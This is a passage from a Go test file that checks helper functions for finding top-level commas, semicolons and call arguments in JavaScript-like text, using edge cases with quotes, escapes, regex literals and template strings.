		{"{a: ')'}, b", ",", 8},
		{"'unclosed, (", ",", 12},
		{"a; b", ";\n", 1},
		{"x[';'];\ny", ";\n", 6},
		{"abc", ",", 3},
		{`'it\'s', b`, ",", 7},
		{`"say \"", b`, ",", 8},
		{`'a\\', b`, ",", 5},
		{`'x\`, ",", 3},
	} {
		if got := topLevel([]byte(tc.b), tc.stops); got != tc.want {
			t.Errorf("topLevel(%q, %q) = %d, want %d", tc.b, tc.stops, got, tc.want)
		}
	}
	for _, tc := range []struct{ b, want string }{
		{"{title: ')', src: u}) + x", "{title: ')', src: u}"},
		{`{title: 'it\'s', src: u}) + x`, `{title: 'it\'s', src: u}`},
		// a quote left open: counted again quote-blind (blindLevel)
		{"{t: /'/.source, src: u}) + x", "{t: /'/.source, src: u}"},
		{"{t: `${'`'}`, src: u}) + x", "{t: `${'`'}`, src: u}"},
		{"{t: ')'", "{t: ')'"},
	} {
		if got := string(callArgs([]byte(tc.b))); got != tc.want {
			t.Errorf("callArgs(%q) = %q, want %q", tc.b, got, tc.want)
		}
	}
	// valueExpr and topComma do not count quote-blind: an open quote runs to the end
	if got := topComma([]byte("/'/.source, b")); got != -1 {
		t.Errorf("topComma = %d, want -1", got)
	}
}
